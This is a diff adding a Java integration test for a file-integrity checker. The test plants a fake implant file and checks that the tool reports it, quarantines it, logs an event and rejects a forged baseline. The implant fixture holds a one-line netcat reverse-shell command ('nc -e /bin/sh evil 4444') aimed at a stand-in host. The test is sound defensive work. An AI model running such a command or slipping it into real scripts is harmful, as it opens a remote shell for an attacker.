@@ -126,6 +126,43 @@ class DetectionIT {
                 .contains("cross-device-command");
     }
 
+    @Test
+    void the_gateway_hosts_file_integrity_check_reports_changes_as_events_and_quarantines_an_implant()
+            throws Exception {
+        Path tree = dir.resolve("opt-app");
+        java.nio.file.Files.createDirectories(tree.resolve("bin"));
+        java.nio.file.Files.writeString(tree.resolve("bin/app"), "#!/bin/sh\necho ok\n");
+        java.nio.file.Files.writeString(tree.resolve("app.conf"), "port=1\n");
+        Path key = dir.resolve("fim.pem");
+        assertThat(Cli.run("firmware", "keygen", "--out", key.toString()).exitCode()).isZero();
+        Path baseline = dir.resolve("baseline.json");
+        Cli.Result made = Cli.run("fim", "baseline", tree.toString(), "--key", key.toString(), "--out", baseline.toString());
+        assertThat(made.exitCode()).as(made.err()).isZero();
+        String[] check = {"fim", "check", baseline.toString(), "--key", dir.resolve("fim.pub.pem").toString(),
+                "--data", dir.resolve("data").toString(), "--server", "https://127.0.0.1:"
+                + palisade.controlPlane().httpsPort(), "--report", "--host", "gw-1", "--respond", "quarantine",
+                "--quarantine-dir", dir.resolve("fim-quarantine").toString()};
+        assertThat(Cli.run(check).exitCode()).isZero();
+
+        java.nio.file.Files.writeString(tree.resolve("bin/implant"), "#!/bin/sh\nnc -e /bin/sh evil 4444\n");
+        Cli.Result changed = Cli.run(check);
+        assertThat(changed.exitCode()).as(changed.err()).isEqualTo(3);
+        assertThat(changed.out()).contains("bin/implant appeared").contains("without execute bits");
+        assertThat(tree.resolve("bin/implant")).doesNotExist();
+        List<SecurityEvent> fim = palisade.controlPlane().events().query(EventQuery.all()).stream()
+                .filter(e -> e.type() == EventType.FILE_MODIFIED).toList();
+        assertThat(fim).singleElement().satisfies(e -> {
+            assertThat(e.source()).isEqualTo("host gw-1");
+            assertThat(e.details()).containsEntry("path", "bin/implant").containsEntry("kind", "added");
+        });
+
+        java.nio.file.Files.writeString(baseline, java.nio.file.Files.readString(baseline).replace("\"baseline\":\"",
+                "\"baseline\":\"AAAA"));
+        Cli.Result forged = Cli.run(check);
+        assertThat(forged.exitCode()).isEqualTo(1);
+        assertThat(forged.err()).contains("refusing the baseline");
+    }
+
     @SafeVarargs
     private static List<String> concat(List<String>... parts) {
         List<String> all = new ArrayList<>();
